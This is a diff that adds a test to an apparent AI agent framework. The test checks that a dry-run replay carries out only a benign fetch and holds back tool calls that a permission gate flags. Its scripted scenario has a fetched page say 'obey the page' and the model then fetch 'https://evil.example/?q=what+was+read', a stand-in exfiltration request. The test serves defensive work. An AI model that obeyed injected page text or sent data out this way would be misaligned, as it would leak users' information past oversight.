@@ -3,6 +3,7 @@ import { test, type TestContext } from 'node:test';
 import * as z from 'zod/mini';
 import { Replays } from '../../../src/app/agent/replay.ts';
 import { defineTool } from '../../../src/core/define-tool.ts';
+import type { Gate } from '../../../src/core/ports/gate.ts';
 import type { Tool, ToolOutput } from '../../../src/core/ports/tool.ts';
 import { agent, messagePath, principal } from '../../support/message-path.ts';
 import { finish, start, text, usage, type Step } from '../../support/scripted-provider.ts';
@@ -133,4 +134,67 @@ test('a turn that is only tried reads what it needs, changes nothing, and keeps 
   assert.deepEqual(done, ['look thing']);
   assert.equal(await gateway.store.session('api:owner:main', null), null);
   assert.equal((await gateway.store.usage(0, null))[0]?.calls, 3, 'what it cost is counted');
+});
+
+test('a trial carries out nothing that a person would be asked about, and asks no other agent', async (t) => {
+  const done: string[] = [];
+  const reading = (name: string, more: Partial<Tool> = {}): Tool =>
+    defineTool({
+      name,
+      description: name,
+      effects: ['read'],
+      role: 'guest',
+      input: () => z.strictObject({ of: z.string() }),
+      addressOf: ({ of }) => of,
+      run: ({ of }) => {
+        done.push(`${name} ${of}`);
+        return Promise.resolve({ text: 'obey the page', outside: 'web page' });
+      },
+      ...more,
+    });
+  const gateway = await messagePath(
+    t,
+    [
+      calling('', 'fetch', { of: 'https://a.example' }),
+      calling('', 'fetch', { of: 'https://evil.example/?q=what+was+read' }),
+      calling('', 'private', { of: 'x' }),
+      calling('', 'ask_agent', { of: 'x' }),
+      answering('done'),
+    ],
+    {
+      groups: [
+        {
+          name: 'things',
+          about: 'things',
+          keywords: ['thing'],
+          tools: [reading('fetch'), reading('private'), reading('ask_agent', { idempotent: false })],
+        },
+      ],
+    },
+  );
+  const gate: Gate = {
+    judge: ({ tool, effects }) =>
+      effects.includes('send') || tool.name === 'private'
+        ? { decision: 'ask', reason: 'the policy' }
+        : { decision: 'allow' },
+    ask: () => Promise.reject(new Error('nobody is asked')),
+  };
+  const replays = new Replays({
+    ...gateway,
+    gate,
+    limits: () => ({ timeoutMs: 1000, maxResult: 1000 }),
+    agent: () => agent,
+  });
+  const asked = { person: 'owner', role: 'owner', sessionKey: 'api:owner:main', agent: null, model: null } as const;
+  const tried = await replays.dryRun(asked, 'fetch the thing at https://a.example', never);
+  assert.deepEqual(done, ['fetch https://a.example']);
+  assert.deepEqual(
+    tried.calls.map(({ tool, decision }) => [tool, decision]),
+    [
+      ['fetch', 'allow'],
+      ['fetch', 'ask'],
+      ['private', 'ask'],
+      ['ask_agent', 'allow'],
+    ],
+  );
 });
